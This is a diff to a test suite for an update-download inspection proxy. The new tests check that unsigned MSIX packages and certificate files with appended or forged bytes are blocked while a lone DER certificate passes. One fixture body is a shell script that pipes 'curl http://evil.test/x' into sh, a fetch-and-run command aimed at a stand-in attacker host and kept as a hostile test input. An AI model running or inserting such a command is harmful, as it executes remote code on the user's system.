@@ -6,11 +6,14 @@
  * `unverifiable` path rules decide known kinds (.esd) and the audit names the rule; an unknown
  * transfer-coding is refused 502. Real sockets on 127.0.0.1.
  */
-import { randomBytes } from 'node:crypto';
+import { randomBytes, X509Certificate } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type GateHandle, type Origin, proxyRequest, quietLibraryConsole, send, startGate, startOrigin } from '../support/gateHarness.js';
 import { fixture, sha256, startRawOrigin, type RawOrigin } from './hostileSupport.js';
+import { FIXTURES } from '../support/fixtures.js';
 
 let restore: () => void;
 let origin: Origin;
@@ -31,10 +34,10 @@ function storedZip(name: string, data: Buffer): Buffer {
   return Buffer.concat([local, n, data, central, n, end]);
 }
 
+const certificateDer = new X509Certificate(readFileSync(join(FIXTURES, 'pki', 'updateca.pem'))).raw;
 const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(4096)]);
 const bodies: Record<string, Buffer> = {
   '/random.exe': randomBytes(64 * 1024),
-  '/app.msix': storedZip('AppxManifest.xml', good),
   '/undeclared-gzip.exe': gzipSync(good),
   '/tool': elf,
   '/install.sh': Buffer.from('#!/bin/sh\ncurl http://evil.test/x | sh\n'),
@@ -51,6 +54,11 @@ beforeAll(async () => {
   origin.route('/meta.json', send(Buffer.from('{"updates":[{"id":1}]}'), { headers: { 'content-type': 'application/octet-stream' } }));
   origin.route('/prefixed.xml', send(Buffer.concat([Buffer.from('<?xml version="1.0"?>\n<a/>\n'.padEnd(200, ' ')), storedZip('x.exe', good)]), { chunk: 64, delayMs: 2, headers: { 'content-type': 'text/xml' } }));
   origin.route('/image.esd', send(randomBytes(32 * 1024)));
+  // ctldl's raw .crt files: one DER certificate is data, not code (Windows installs it only if the signed authroot.stl lists its hash).
+  origin.route('/root.crt', send(certificateDer, { headers: { 'content-type': 'application/octet-stream' } }));
+  origin.route('/root-then-elf.crt', send(Buffer.concat([certificateDer, elf]), { chunk: 256, delayMs: 2 }));
+  const fake = Buffer.concat([Buffer.from([0x30, 0x82, 0x04, 0x00, 0x30, 0x82, 0x03, 0xfc]), randomBytes(0x400 - 4)]);
+  origin.route('/fake.crt', send(fake));
   origin.route('/image.wim', send(randomBytes(32 * 1024)));
   g = await startGate({
     hosts: [{ pattern: '127.0.0.1', mode: 'inspect' }],
@@ -75,6 +83,15 @@ describe('item 8: unrecognised content on an inspected host is blocked', () => {
     });
   }
 
+  it('a ZIP is held and verified as an APPX/MSIX package: one with no package signature is blocked, never passed as unknown content', async () => {
+    origin.route('/app.msix', send(storedZip('AppxManifest.xml', good), { headers: { 'content-type': 'text/xml' } }));
+    const r = await proxyRequest(g.port, origin.url('/app.msix'));
+    expect(r.status).toBe(403);
+    expect(r.body.includes(good.subarray(0, 512))).toBe(false);
+    const rec = await recordOf(r.headers['x-patchgate-audit-id']);
+    expect(rec).toMatchObject({ verdict: 'block', served: 'blocked', inspected: true, format: 'msix' });
+  });
+
   it('metadata passes (XML with a BOM, JSON), sniffed from the bytes, and the audit names the rule', async () => {
     for (const path of ['/meta.xml', '/meta.json']) {
       const r = await proxyRequest(g.port, origin.url(path));
@@ -82,6 +99,20 @@ describe('item 8: unrecognised content on an inspected host is blocked', () => {
       expect(r.headers['x-patchgate-verdict']).toBe('pass');
       const rec = await recordOf(r.headers['x-patchgate-audit-id']);
       expect(rec).toMatchObject({ verdict: 'pass', served: 'passed', inspected: false, rule: 'nonPayload' });
+    }
+  });
+
+  it('one DER certificate (a ctldl .crt) passes whole as metadata; a certificate followed by other bytes, or a DER shape that is no certificate, never arrives whole', async () => {
+    const r = await proxyRequest(g.port, origin.url('/root.crt'));
+    expect(r.status).toBe(200);
+    expect(sha256(r.body)).toBe(sha256(certificateDer));
+    expect(await recordOf(r.headers['x-patchgate-audit-id'])).toMatchObject({ verdict: 'pass', inspected: false, rule: 'nonPayload' });
+    for (const path of ['/root-then-elf.crt', '/fake.crt']) {
+      const bad = await proxyRequest(g.port, origin.url(path));
+      expect(bad.status === 200 && bad.complete, path).toBe(false);
+      expect(bad.body.includes(elf.subarray(0, 64)), path).toBe(false);
+      const rec = (await g.waitRecords((x) => x.url.endsWith(path)))[0];
+      expect(rec, path).toMatchObject({ verdict: 'block' });
     }
   });
 
